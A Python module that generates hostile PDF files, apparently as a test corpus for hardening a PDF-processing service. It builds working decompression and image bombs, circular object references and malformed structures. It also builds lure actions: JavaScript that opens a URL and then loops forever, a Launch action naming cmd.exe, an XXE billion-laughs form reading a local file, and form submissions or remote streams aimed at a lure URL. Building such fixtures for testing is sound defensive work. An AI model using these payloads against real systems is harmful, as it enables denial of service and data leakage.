"""Hostile PDFs."""

from __future__ import annotations

import io
import struct
import zlib
from collections.abc import Callable

import pikepdf

from hostile.bombs import zlibbed
from hostile.lure import Lure, Maker

_FONT = b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>"
_TREE = b"<< /Type /Pages /Count 1 /Kids [3 0 R] >>"
_SAYS = b"BT /F1 11 Tf 72 700 Td (Insatsens namn: RESAN) Tj ET\n"
_ENTITIES = b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "%s"><!ENTITY b "%s"><!ENTITY e SYSTEM "file://%s">]><xdp><datasets>&b;&e;</datasets></xdp>'


def _stream(data: bytes, entries: bytes = b"") -> bytes:
    return b"<< /Length %d %s >>\nstream\n%s\nendstream" % (len(data), entries, data)


def _flate(filling: bytes, size: int, *, before: bytes = b"", entries: bytes = b"") -> bytes:
    return _stream(zlibbed(filling, size, before=before), b"/Filter /FlateDecode " + entries)


def _file(
    *more: bytes, content: bytes = _stream(_SAYS), root: bytes = b"", tree: bytes = _TREE, page: bytes = b"",
    resources: bytes = b"", box: bytes = b"0 0 595 842", font: bytes = _FONT, trailer: bytes = b"",
) -> bytes:  # fmt: skip
    """One page: catalogue 1, pages 2, page 3, content 4, font 5; *more* are the objects from 6 on."""
    leaf = (
        b"<< /Type /Page /Parent 2 0 R /MediaBox [%s] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> %s >> %s >>"
    )
    catalogue = b"<< /Type /Catalog /Pages 2 0 R %s >>" % root
    return written([catalogue, tree, leaf % (box, resources, page), content, font, *more], trailer)


def written(objects: list[bytes], trailer: bytes = b"") -> bytes:
    """The file with these objects, from number 1 on; the first is the catalogue."""
    pieces, places, at = [b"%PDF-1.7\n"], [], 9
    for number, body in enumerate(objects, start=1):
        places.append(at)
        pieces.append(b"%d 0 obj\n%s\nendobj\n" % (number, body))
        at += len(pieces[-1])
    pieces.append(b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1))
    pieces += [b"%010d 00000 n \n" % place for place in places]
    pieces.append(b"trailer << /Size %d /Root 1 0 R %s >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, trailer, at))
    return b"".join(pieces)


def _action(action: str) -> Maker:
    def make(lure: Lure) -> bytes:
        filled = action.replace("URL", lure.url).replace("PATH", lure.path).encode()
        link = b"<< /Type /Annot /Subtype /Link /Rect [0 0 595 842] /A 6 0 R >>"
        return _file(
            filled, link, root=b"/OpenAction 6 0 R /AA << /WC 6 0 R >>", page=b"/Annots [7 0 R] /AA << /O 6 0 R >>"
        )

    return make


def _form(said: bytes, *more: bytes, entries: bytes = b"") -> bytes:
    """A page that draws the form XObject 6."""
    drawn = _stream(
        said,
        b"/Type /XObject /Subtype /Form /BBox [0 0 595 842] /Resources << /XObject << /X 6 0 R /Y 7 0 R >> >>"
        + entries,
    )
    return _file(drawn, *more, content=_stream(b"/X Do " + _SAYS), resources=b"/XObject << /X 6 0 R >>")


def _doubling(levels: int) -> bytes:
    """Forms, each of which draws the next one ten times."""
    forms = [
        _stream(b"/X Do " * 10 if n < levels - 1 else _SAYS,
                b"/Subtype /Form /BBox [0 0 595 842] /Resources << /Font << /F1 5 0 R >> /XObject << /X %d 0 R >> >>" % (7 + n))
        for n in range(levels)
    ]  # fmt: skip
    return _file(*forms, content=_stream(b"/X Do"), resources=b"/XObject << /X 6 0 R >>")


def _pattern() -> bytes:
    tile = _stream(
        b"/Pattern cs /P scn 0 0 595 842 re f",
        b"/PatternType 1 /PaintType 1 /TilingType 1 /BBox [0 0 1 1] /XStep 0.0001 /YStep 0.0001 /Resources << /Pattern << /P 6 0 R >> >>",
    )
    return _file(tile, content=_stream(b"/Pattern cs /P scn 0 0 595 842 re f"), resources=b"/Pattern << /P 6 0 R >>")


def _pages(count: int) -> bytes:
    kids = b" ".join(b"%d 0 R" % (6 + n) for n in range(count))
    leaf = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> >>"
    return _file(*[leaf] * count, tree=b"<< /Type /Pages /Count %d /Kids [%s] >>" % (count, kids))


def _tree_of(levels: int) -> bytes:
    """Pages under so many nodes."""
    nodes = [b"<< /Type /Pages /Count 1 /Parent %d 0 R /Kids [%d 0 R] >>" % (5 + n, 7 + n) for n in range(levels - 1)]
    return _file(
        *nodes, b"<< /Type /Pages /Count 1 /Kids [3 0 R] >>", tree=b"<< /Type /Pages /Count 1 /Kids [6 0 R] >>"
    )


def _annotated(count: int, kind: bytes) -> bytes:
    return _file(kind, page=b"/Annots [%s]" % (b"6 0 R " * count))


def _picture(width: int, height: int, data: bytes, entries: bytes, *, size: bytes = b"595 0 0 842") -> bytes:
    """A page that is one picture."""
    image = _stream(data, b"/Type /XObject /Subtype /Image /Width %d /Height %d %s" % (width, height, entries))
    return _file(image, content=_stream(b"q %s 0 0 cm /I Do Q" % size), resources=b"/XObject << /I 6 0 R >>")


def _jbig2(width: int, height: int) -> bytes:
    page = struct.pack(">IBBI", 0, 0x30, 1, 19) + struct.pack(">IIIIBH", width, height, 0, 0, 0, 0)
    region = struct.pack(">IBBI", 1, 0x26, 1, 26) + struct.pack(">IIIIB", width, height, 0, 0, 0) + bytes(9)
    return page + region


def _jpx(width: int, height: int) -> bytes:
    size = struct.pack(">HHIIIIIIIIH", 0, 0, width, height, 0, 0, width, height, 0, 0, 3) + b"\x07\x01\x01" * 3
    return (
        b"\xff\x4f\xff\x51"
        + struct.pack(">H", len(size))
        + size[2:]
        + b"\xff\x52\0\x0c\0\0\0\x01\0\x05\x04\x04\0\0"
        + b"\xff\xd9"
    )


def jpeg(width: int, height: int) -> bytes:
    """A head that promises so much, and nothing after it."""
    tables = b"\xff\xdb\x00\x43\x00" + b"\x01" * 64
    frame = b"\xff\xc0\x00\x0b\x08" + struct.pack(">HH", height, width) + b"\x01\x01\x11\x00"
    codes = b"".join(b"\xff\xc4\x00\x14" + bytes([kind]) + b"\x01" + bytes(15) + b"\x00" for kind in (0x00, 0x10))
    return (
        b"\xff\xd8" + tables + frame + codes + b"\xff\xda\x00\x08\x01\x01\x00\x00\x3f\x00" + bytes(2_000) + b"\xff\xd9"
    )


def _object_stream() -> bytes:
    packed = _flate(b"1 0 ", 4_000_000_000, entries=b"/Type /ObjStm /N 99999999 /First 99999990")
    return _file(packed).replace(b"1 0 obj\n<< /Type /Catalog", b"1 0 xxx\n<< /Type /Catalxx")


def _xref_loop() -> bytes:
    content = _file()
    at = content.rindex(b"\nxref") + 1
    return content.replace(b"trailer <<", b"trailer << /Prev %d /XRefStm %d" % (at, at))


def _widths(entries: bytes) -> bytes:
    return b"<< /Type /Font /Subtype /Type0 /BaseFont /X /Encoding /Identity-H /DescendantFonts [6 0 R] %s >>" % entries


def _font_program(program: bytes, kind: bytes) -> bytes:
    descriptor = b"<< /Type /FontDescriptor /FontName /X /Flags 4 /FontBBox [-9e9 -9e9 9e9 9e9] /%s 7 0 R >>" % kind
    font = b"<< /Type /Font /Subtype /TrueType /BaseFont /X /FirstChar -5 /LastChar 99999999 /Widths [1 2] /FontDescriptor 6 0 R >>"
    return _file(descriptor, _stream(program, b"/Length1 %d" % len(program)), font=font)


def _type3() -> bytes:
    """A font whose letters are written in itself."""
    font = b"<< /Type /Font /Subtype /Type3 /FontBBox [0 0 1 1] /FontMatrix [1 0 0 1 0 0] /FirstChar 0 /LastChar 255 /Widths [1] /Encoding << /Differences [0 /a] >> /CharProcs << /a 6 0 R >> /Resources << /Font << /F1 5 0 R >> >> >>"
    return _file(_stream(b"BT /F1 1 Tf (aaaaaaaaaa) Tj ET"), font=font)


def _xfa(lure: Lure) -> bytes:
    xml = _ENTITIES % (b"ha" * 1_000, b"&a;" * 100_000, lure.path.encode())
    return _file(_stream(xml), root=b"/AcroForm << /Fields [] /XFA [(datasets) 6 0 R] >>")


def _locked(password: str) -> bytes:
    out = io.BytesIO()
    with pikepdf.open(io.BytesIO(_file())) as pdf:
        pdf.save(out, encryption=pikepdf.Encryption(owner="ägare", user=password))
    return out.getvalue()


def _portfolio() -> bytes:
    spec = b"<< /Type /Filespec /F (report.docx) /EF << /F 7 0 R >> >>"
    return _file(spec, _flate(b"x", 4_000_000_000), root=b"/Names << /EmbeddedFiles << /Names [(a) 6 0 R] >> >>")


def _structured(levels: int) -> bytes:
    """A structure tree in a circle, or that deep."""
    elements = [
        b"<< /Type /StructElem /S /Table /P %d 0 R /K [%d 0 R %d 0 R] >>" % (6 + n, 8 + n, 8 + n) for n in range(levels)
    ]
    return _file(b"<< /Type /StructTreeRoot /K 7 0 R >>", *elements, b"<< /Type /StructElem /S /TD /P 6 0 R /K [7 0 R] /Pg 3 0 R >>",
                 root=b"/StructTreeRoot 6 0 R /MarkInfo << /Marked true >>")  # fmt: skip


def _plain(build: Callable[[], bytes]) -> Maker:
    return lambda _: build()


_NOTE = b"<< /Type /Annot /Subtype /FreeText /Contents (Hej) /Rect [10 10 90 90] >>"
_WIDGET = b"<< /Type /Annot /Subtype /Widget /FT /Tx /T (a) /V (b) /Rect [200 694 400 712] >>"
_BUILT: dict[str, Callable[[], bytes]] = {
    "a content of 10 GB": lambda: _file(content=_flate(b"q Q ", 10_000_000_000, before=_SAYS)),
    "a content of 10 GB of spaces": lambda: _file(content=_flate(b" ", 10_000_000_000, before=_SAYS)),
    "a content of 40 MB of lines": lambda: _file(content=_flate(b"0 0 m 9 9 l S ", 40_000_000)),
    "a content of 40 MB of rectangles": lambda: _file(content=_flate(b"1 2 30 40 re f ", 40_000_000)),
    "a string of 40 MB": lambda: _file(content=_flate(b"aaaa ", 40_000_000, before=b"BT /F1 9 Tf (")),
    "saved states without end": lambda: _file(content=_flate(b"q ", 40_000_000)),
    "brackets without end": lambda: _file(content=_flate(b"[ ", 40_000_000)),
    "a million glyphs": lambda: _file(content=_stream(b"BT /F1 1 Tf 1 1 Td " + b"(Syfte mal) Tj " * 100_000 + b"ET")),
    "a million glyphs, each in its place": lambda: _file(
        content=_stream(b"BT /F1 1 Tf " + b"".join(b"1 0 0 1 %d %d Tm (a) Tj " % (n % 590, n // 590) for n in range(500_000)) + b"ET")
    ),
    "glyphs over one another": lambda: _file(content=_stream(b"BT /F1 9 Tf 72 700 Td " + b"(a) Tj 0 0 Td " * 50_000 + b"ET")),
    "packed a hundred times": lambda: _file(content=_stream(zlib.compress(_SAYS), b"/Filter [" + b"/FlateDecode " * 100 + b"]")),
    "every filter": lambda: _file(content=_stream(b"\x80\x0b\x60\x50" * 9_999, b"/Filter [/LZWDecode /ASCII85Decode /RunLengthDecode /Crypt /X]")),
    "a form that draws itself": lambda: _form(b"/X Do " * 10),
    "two forms that draw one another": lambda: _form(b"/Y Do " * 3, _stream(b"/X Do " * 3, b"/Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << /X 6 0 R >> >>")),
    "forms that draw forms, 10 to the 12th": lambda: _doubling(12),
    "a pattern of itself": _pattern,
    "a soft mask of itself": lambda: _file(
        b"<< /SMask << /S /Luminosity /G 7 0 R >> >>",
        _stream(b"/G gs 0 0 9 9 re f", b"/Subtype /Form /BBox [0 0 595 842] /Group << /S /Transparency >> /Resources << /ExtGState << /G 6 0 R >> >>"),
        content=_stream(b"/G gs 0 0 595 842 re f " + _SAYS), resources=b"/ExtGState << /G 6 0 R >>",
    ),
    "pages in a circle": lambda: _file(tree=b"<< /Type /Pages /Count 5 /Kids [3 0 R 2 0 R 2 0 R] >>"),
    "100,000 pages": lambda: _pages(100_000),
    "290 pages": lambda: _pages(290),
    "a page under 20,000 nodes": lambda: _tree_of(20_000),
    "a million annotations": lambda: _annotated(1_000_000, _NOTE),
    "a million fields": lambda: _annotated(1_000_000, _WIDGET),
    "a page as wide as the world": lambda: _file(box=b"0 0 1e9 1e9"),
    "a page of nothing": lambda: _file(box=b"0 0 0 0"),
    "a page of NaN": lambda: _file(box=b"nan inf -99999999999999999999 1e400"),
    "a scan as wide as the world": lambda: _picture(9, 9, bytes(81), b"/ColorSpace /DeviceGray /BitsPerComponent 8").replace(b"0 0 595 842]", b"0 0 1e9 1e9]"),
    "a scan of 2 billion points": lambda: _picture(
        60_000, 60_000, zlibbed(b"\0", 3_600_000_000), b"/Filter /FlateDecode /ColorSpace /DeviceGray /BitsPerComponent 8"
    ),
    "a scan of 300 million points": lambda: _picture(
        17_000, 17_000, zlibbed(b"\xff", 290_000_000), b"/Filter /FlateDecode /ColorSpace /DeviceGray /BitsPerComponent 8"
    ),
    "a JBIG2 bomb": lambda: _picture(65_000, 65_000, _jbig2(65_000, 65_000), b"/Filter /JBIG2Decode /ColorSpace /DeviceGray /BitsPerComponent 1"),
    "a JPX bomb": lambda: _picture(60_000, 60_000, _jpx(60_000, 60_000), b"/Filter /JPXDecode"),
    "a DCT bomb": lambda: _picture(65_000, 65_000, jpeg(65_000, 65_000), b"/Filter /DCTDecode /ColorSpace /DeviceGray /BitsPerComponent 8"),
    "a CCITT bomb": lambda: _picture(
        60_000, 60_000, bytes(1_000), b"/Filter /CCITTFaxDecode /DecodeParms << /K -1 /Columns 60000 /Rows 60000 >> /ColorSpace /DeviceGray /BitsPerComponent 1"
    ),
    "a predictor as wide as the world": lambda: _picture(
        9, 9, zlib.compress(bytes(99)), b"/Filter /FlateDecode /DecodeParms << /Predictor 15 /Columns 2147483647 /Colors 9999 >> /ColorSpace /DeviceGray /BitsPerComponent 8"
    ),
    "an object stream without end": _object_stream,
    "a table in a circle": _xref_loop,
    "a table of ten million": lambda: _file().replace(b"xref\n0 6", b"xref\n0 9999999"),
    "a font that is rubbish": lambda: _font_program(b"\0\1\0\0\xff\xff" + bytes(range(256)) * 40, b"FontFile2"),
    "a font of 4 GB": lambda: _font_program(b"", b"FontFile2").replace(b"/Length1 0", b"/Filter /FlateDecode").replace(b"stream\n\n", b"stream\n" + zlibbed(b"\0", 4_000_000_000) + b"\n"),
    "a font written in itself": _type3,
    "a font that is its own descendant": lambda: _file(b"5 0 R", font=_widths(b"")),
    "widths without end": lambda: _file(b"<< /Type /Font /Subtype /CIDFontType2 /W [0 2147483647 500] >>", font=_widths(b"")),
    "a CMap of the whole world": lambda: _file(
        _stream(b"1 begincodespacerange <00000000> <ffffffff> endcodespacerange 1 beginbfrange <00000000> <ffffffff> <0041> endbfrange"),
        font=_FONT.replace(b">>", b"/ToUnicode 6 0 R >>"),
    ),
    "a CMap that uses itself": lambda: _file(
        _stream(b"/X usecmap", b"/UseCMap 6 0 R"), font=_FONT.replace(b"/WinAnsiEncoding", b"6 0 R /ToUnicode 6 0 R")
    ),
    "a CMap of 4 GB": lambda: _file(_flate(b"<41> <42> ", 4_000_000_000), font=_FONT.replace(b">>", b"/ToUnicode 6 0 R >>")),
    "fields in a circle": lambda: _file(
        _WIDGET.replace(b">>", b"/Parent 7 0 R /Kids [7 0 R] >>"), b"<< /T (p) /Parent 6 0 R /Kids [6 0 R 7 0 R] >>",
        root=b"/AcroForm << /Fields [6 0 R 7 0 R] >>", page=b"/Annots [6 0 R]",
    ),
    "a structure in a circle": lambda: _structured(30),
    "a structure 50,000 deep": lambda: _structured(50_000),
    "outlines in a circle": lambda: _file(b"<< /First 6 0 R /Next 6 0 R /Title (a) >>", root=b"/Outlines 6 0 R"),
    "brackets 200,000 deep": lambda: _file(b"[" * 200_000 + b"]" * 200_000, page=b"/X 6 0 R"),
    "a file inside of 4 GB": _portfolio,
    "locked": lambda: _locked("hemligt"),
    "locked with nothing": lambda: _locked(""),
    "a docx after it": lambda: _file() + b"PK\x03\x04" + bytes(26) + b"PK\x05\x06" + bytes(18),
    "half a million objects": lambda: _file(*[b"<<>>"] * 500_000),
    "20 MB of nothing": lambda: b"%PDF-1.7\n" + bytes(20_000_000),
    "20 MB of beginnings": lambda: b"%PDF-1.7\n" + b"1 0 obj << /Type /Pages /Kids [1 0 R] " * 500_000,
}  # fmt: skip
PDF: dict[str, Maker] = {
    **{name: _plain(build) for name, build in _BUILT.items()},
    "a script": _action("<< /S /JavaScript /JS (app.launchURL\\('URL'\\);while\\(1\\){}) >>"),
    "a program to start": _action("<< /S /Launch /F (PATH) /Win << /F (cmd.exe) >> >>"),
    "a document elsewhere": _action("<< /S /GoToR /F (PATH) /D [0 /Fit] >>"),
    "an address": _action("<< /S /URI /URI (URL) >>"),
    "a form to send": _action("<< /S /SubmitForm /F (URL) /Flags 4 >>"),
    "data to import": _action("<< /S /ImportData /F (PATH) >>"),
    "a stream elsewhere": lambda lure: _file(
        content=b"<< /Length 0 /F (%s) >>\nstream\n\nendstream" % lure.path.encode()
    ),
    "a stream from the net": lambda lure: _file(
        content=b"<< /Length 0 /F << /FS /URL /F (%s) >> >>\nstream\n\nendstream" % lure.url.encode()
    ),
    "entities in its form": _xfa,
}
